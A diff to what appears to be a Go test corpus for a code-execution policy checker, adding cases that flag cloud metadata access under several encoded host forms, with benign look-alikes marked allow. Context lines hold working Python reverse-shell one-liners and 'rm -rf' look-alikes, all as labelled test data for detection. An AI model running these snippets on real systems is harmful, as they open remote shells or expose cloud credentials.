@@ -70,6 +70,15 @@ var codeCorpus = []struct {
 	{"python3", `import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`, "deny", "code.reverse_shell"},
 	{"python3", `s=socket.socket();s.connect(("h",1));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno())`, "deny", "code.reverse_shell"},
 	{"python3", `s = socket.create_connection(("example.org", 80))`, "allow", ""},
+	// The cloud metadata service, on the hosts code names
+	{"python3", `import urllib.request; urllib.request.urlopen("http://2852039166/latest/meta-data/")`, "deny", "net.cloud_metadata"},
+	{"python3", `import socket; s = socket.create_connection(("169.254.169.254", 80))`, "deny", "net.cloud_metadata"},
+	{"python3", "# it's the host\nimport socket; socket.create_connection(('0xa9fea9fe', 80))", "deny", "net.cloud_metadata"},
+	{"node", `fetch("http://[::ffff:a9fe:a9fe]/latest")`, "deny", "net.cloud_metadata"},
+	{"node", `require("http").get({host: "metadata.google.internal", path: "/computeMetadata/v1/"})`, "deny", "net.cloud_metadata"},
+	{"python3", `print("the metadata service lives at 169.254.169.254")`, "allow", ""},
+	{"python3", `requests.get("https://example.org/docs/169.254.169.254")`, "allow", ""},
+	{"python3", `meta = {"metadata": 1, "version": "3.11"}`, "allow", ""},
 	// Python: look-alikes and unfinished lines
 	{"python3", `print('rm -rf /')`, "allow", ""},
 	{"python3", `print(f"os.system('rm -rf {x}')")`, "allow", ""},
